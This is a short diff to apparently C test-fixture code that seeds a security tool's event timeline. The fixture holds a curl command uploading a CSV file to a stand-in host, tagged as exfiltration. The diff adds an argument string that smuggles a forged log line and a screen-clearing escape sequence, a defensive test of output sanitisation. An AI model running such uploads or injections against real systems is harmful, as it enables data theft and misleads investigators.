@@ -94,6 +94,10 @@ static void story(void)
 	put("process", T0 + 9 * SEC, "{\"event\":\"exec\",\"pid\":502,\"ppid\":500,"
 				     "\"session_id\":7,\"comm\":\"curl\",\"exe\":\"/usr/bin/curl\","
 				     "\"args\":\"curl -T /tmp/c.csv http://127.0.0.77:8080/up\"}");
+	/* A command line that would forge a timeline line and clear the screen if printed raw. */
+	put("process", T0 + 9 * SEC, "{\"event\":\"exec\",\"pid\":503,\"ppid\":500,"
+				     "\"session_id\":7,\"comm\":\"sh\",\"exe\":\"/usr/bin/sh\","
+				     "\"args\":\"sh -c :\\n2026-11-18 11:00:00  exit curl\\u001b[2J\"}");
 	activity(10, 7, 502, "curl", "egress_net", "127.0.0.77:8080", 2000000);
 	alert(10, 2, 1, "exfiltration", 4500000, 2000000);
 	put("gap", T0 + 11 * SEC, "{\"session_id\":null,\"what\":\"exec\",\"count\":3,"
